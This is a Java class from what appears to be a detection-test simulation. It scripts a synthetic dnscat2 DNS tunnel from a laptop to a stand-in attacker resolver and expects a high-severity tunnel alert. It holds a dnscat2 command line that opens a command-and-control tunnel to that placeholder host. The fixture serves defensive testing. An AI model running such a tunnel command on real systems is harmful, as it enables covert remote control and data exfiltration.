package io.roguedns.simulation.story;

import io.roguedns.event.Ticks;
import io.roguedns.finding.Severity;
import io.roguedns.simulation.story.DnsTraffic.Seen;
import io.roguedns.simulation.truth.AlertType;
import io.roguedns.simulation.truth.ExpectedAlert;
import io.roguedns.simulation.world.Day;
import io.roguedns.simulation.world.Device;
import io.roguedns.simulation.world.Dice;
import io.roguedns.simulation.world.Network;
import io.roguedns.simulation.world.Program;
import io.roguedns.simulation.world.Program.RunsAs;
import io.roguedns.simulation.world.Question;
import io.roguedns.simulation.world.Resolver;
import io.roguedns.simulation.world.RunningProcess;
import io.roguedns.simulation.world.Session;
import java.util.List;

/** A tunnel whose client queries the adversary's own server directly. */
public final class ResolverTunnel extends AdversaryStory {
  private static final Program TUNNEL =
      new Program(
          "dnscat2.exe",
          "c:\\users\\{user}\\downloads\\d2",
          "dnscat2.exe --dns server=198.51.100.66,port=53,type=TXT",
          null,
          "powershell.exe",
          RunsAs.USER);

  private static final Telling FIRST =
      new Telling(List.of("lt-049"), List.of("198.51.100.66"), TUNNEL, "d.saltmarsh.test", 0);

  public ResolverTunnel() {
    this(FIRST);
  }

  public ResolverTunnel(Telling telling) {
    super("resolver-tunnel", telling);
  }

  @Override
  public Span span(Day day) {
    return new Span(day.at(14, 45), day.at(15, 45));
  }

  @Override
  public void play(Stage stage) {
    Device laptop = cast(stage.fleet()).get(0);
    Session session = stage.allDay(laptop, Network.OFFICE);
    Dice dice = stage.dice(laptop, name());
    Resolver adversary = telling.resolver();
    // Four minutes, five and four of three bins, at 66 a minute: each bin is over the threshold.
    long started = stage.day().at(15, 11, 0, 6_140_207) + telling.delay();
    long stopped = started + 13 * Ticks.PER_MINUTE;
    RunningProcess tunnel = stage.run(laptop, telling.program(), started - 2 * Ticks.PER_SECOND);
    String process = tunnel.program().fileName();
    long pace = Ticks.PER_MINUTE / 66;
    for (long at = started; at < stopped; at += dice.between(pace / 2, pace + pace / 2)) {
      String asked = dice.hex((int) dice.between(24, 60)) + "." + telling.domain();
      Question question = Question.text(asked, dice.hex(40));
      stage.dns(dice).ask(at, session, tunnel, adversary, question, Seen.CONNECTION);
    }
    stage.note(
        started,
        ("`%s` on `%s` opens a tunnel in direct mode: each query goes to %s, from its own local"
                + " port.")
            .formatted(process, laptop.host(), adversary.address()));
    stage.note(stopped, "The tunnel is closed, after 13 minutes and three bins.");
    stage.alert(
        new ExpectedAlert(
            AlertType.RESOLVER_TUNNEL,
            laptop.name(),
            adversary.address(),
            process,
            Severity.HIGH,
            Severity.CRITICAL));
  }
}
